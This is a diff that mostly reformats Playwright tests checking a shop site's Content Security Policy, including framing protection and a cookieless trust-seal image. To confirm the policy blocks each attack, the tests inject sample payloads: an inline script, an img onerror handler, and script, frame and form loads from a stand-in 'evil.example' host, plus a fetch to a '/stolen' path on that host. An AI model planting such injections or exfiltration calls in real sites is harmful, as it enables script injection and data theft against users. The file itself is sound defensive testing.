@@ -20,7 +20,8 @@ async function openElsewhere(page: Page, body = "globalThis.intruded = true"): P
 
 /** Each returns once the page has refused it or done it. */
 const intrusions: Record<string, (page: Page) => Promise<unknown>> = {
-  "script-src-elem inline": (page) => insert(page, "script", { textContent: "globalThis.intruded = true" }),
+  "script-src-elem inline": (page) =>
+    insert(page, "script", { textContent: "globalThis.intruded = true" }),
   "script-src-attr inline": (page) =>
     insert(page, "div", { innerHTML: "<img src=/none.png onerror='globalThis.intruded = true'>" }),
   "script-src eval": (page) =>
@@ -38,15 +39,22 @@ const intrusions: Record<string, (page: Page) => Promise<unknown>> = {
           }),
         ),
     ),
-  "script-src-elem evil.example": (page) => insert(page, "script", { src: `${ELSEWHERE}/script.js` }),
-  "script-src-elem data": (page) => insert(page, "script", { src: "data:text/javascript,globalThis.intruded = true" }),
-  "style-src-elem inline": (page) => insert(page, "style", { textContent: "body { display: none }" }),
-  "style-src-attr inline": (page) => insert(page, "div", { innerHTML: "<p style='position: fixed'></p>" }),
-  "style-src-elem evil.example": (page) => insert(page, "link", { rel: "stylesheet", href: `${ELSEWHERE}/style.css` }),
+  "script-src-elem evil.example": (page) =>
+    insert(page, "script", { src: `${ELSEWHERE}/script.js` }),
+  "script-src-elem data": (page) =>
+    insert(page, "script", { src: "data:text/javascript,globalThis.intruded = true" }),
+  "style-src-elem inline": (page) =>
+    insert(page, "style", { textContent: "body { display: none }" }),
+  "style-src-attr inline": (page) =>
+    insert(page, "div", { innerHTML: "<p style='position: fixed'></p>" }),
+  "style-src-elem evil.example": (page) =>
+    insert(page, "link", { rel: "stylesheet", href: `${ELSEWHERE}/style.css` }),
   "img-src evil.example": (page) => insert(page, "img", { src: `${ELSEWHERE}/image.png` }),
-  "connect-src evil.example": (page) => page.evaluate((address) => fetch(address).catch(() => null), `${ELSEWHERE}/stolen`),
+  "connect-src evil.example": (page) =>
+    page.evaluate((address) => fetch(address).catch(() => null), `${ELSEWHERE}/stolen`),
   "frame-src evil.example": (page) => insert(page, "iframe", { src: `${ELSEWHERE}/frame` }),
-  "object-src evil.example": (page) => insert(page, "object", { data: `${ELSEWHERE}/object`, type: "text/html" }),
+  "object-src evil.example": (page) =>
+    insert(page, "object", { data: `${ELSEWHERE}/object`, type: "text/html" }),
   "base-uri evil.example": (page) => insert(page, "base", { href: `${ELSEWHERE}/` }),
   "form-action evil.example": (page) =>
     page.evaluate((action) => {
@@ -57,14 +65,16 @@ const intrusions: Record<string, (page: Page) => Promise<unknown>> = {
 };
 
 async function insert(page: Page, tag: string, properties: Record<string, string>): Promise<void> {
-  await page.evaluate(([name, values]) => document.body.append(Object.assign(document.createElement(name), values)), [
-    tag,
-    properties,
-  ] as const);
+  await page.evaluate(
+    ([name, values]) => document.body.append(Object.assign(document.createElement(name), values)),
+    [tag, properties] as const,
+  );
 }
 
 for (const path of ["/", "/auth"]) {
-  test(`${path} refuses whatever is not the shop's own, and that is heard of`, async ({ context }) => {
+  test(`${path} refuses whatever is not the shop's own, and that is heard of`, async ({
+    context,
+  }) => {
     const page = await context.newPage();
     const complaints = await watch(page, new Set([404]));
     const asked = await openElsewhere(page);
@@ -78,7 +88,9 @@ for (const path of ["/", "/auth"]) {
         await intrude(page);
         const [directive = "", what = ""] = name.split(" ");
         await expect
-          .poll(() => complaints.filter((complaint) => complaint.includes(`refused ${directive}: `)).join())
+          .poll(() =>
+            complaints.filter((complaint) => complaint.includes(`refused ${directive}: `)).join(),
+          )
           .toContain(what);
       });
     }
@@ -90,7 +102,15 @@ for (const path of ["/", "/auth"]) {
 
 test("no page of the shop is shown inside another site's", async ({ context, baseURL }) => {
   const page = await context.newPage();
-  const paths = ["/", "/cart", "/auth", "/terms", "/no-such-page", "/api/v1/categories", "/art/itunes.svg"];
+  const paths = [
+    "/",
+    "/cart",
+    "/auth",
+    "/terms",
+    "/no-such-page",
+    "/api/v1/categories",
+    "/art/itunes.svg",
+  ];
   const frames = paths.map((path) => `<iframe src="${baseURL ?? ""}${path}"></iframe>`).join("");
   await openElsewhere(page, `<!doctype html><title>x</title>${frames}`);
   await page.goto(`${ELSEWHERE}/`, { waitUntil: "load" });
@@ -103,7 +123,8 @@ test("a shop that has the trust seal shows it, and the seal learns whose page it
   page,
   baseURL,
 }) => {
-  const imagePolicy = (hasTrustSeal: boolean) => contentPolicy({ hasTrustSeal }).find((part) => part.startsWith("img-src")) ?? "";
+  const imagePolicy = (hasTrustSeal: boolean) =>
+    contentPolicy({ hasTrustSeal }).find((part) => part.startsWith("img-src")) ?? "";
   const seen: Record<string, string>[] = [];
   await page.route(`${TRUST_SEAL_ORIGIN}/**`, async (route) => {
     seen.push(await route.request().allHeaders());
@@ -119,11 +140,18 @@ test("a shop that has the trust seal shows it, and the seal learns whose page it
     expect(policy).toContain(imagePolicy(false));
     const seal = `<img id="seal" src="${TRUST_SEAL_ORIGIN}/logo.aspx?id=1" referrerpolicy="origin" alt="">`;
     await route.fulfill({
-      headers: { ...response.headers(), "content-security-policy": policy.replace(imagePolicy(false), imagePolicy(true)) },
+      headers: {
+        ...response.headers(),
+        "content-security-policy": policy.replace(imagePolicy(false), imagePolicy(true)),
+      },
       body: (await response.text()).replace("</footer>", `${seal}</footer>`),
     });
   });
   await page.goto("/verify/email");
-  await expect.poll(() => page.locator("#seal").evaluate((image: HTMLImageElement) => image.naturalWidth)).toBe(90);
-  expect(seen.map(({ referer, cookie }) => ({ referer, cookie }))).toEqual([{ referer: `${baseURL ?? ""}/`, cookie: undefined }]);
+  await expect
+    .poll(() => page.locator("#seal").evaluate((image: HTMLImageElement) => image.naturalWidth))
+    .toBe(90);
+  expect(seen.map(({ referer, cookie }) => ({ referer, cookie }))).toEqual([
+    { referer: `${baseURL ?? ""}/`, cookie: undefined },
+  ]);
 });
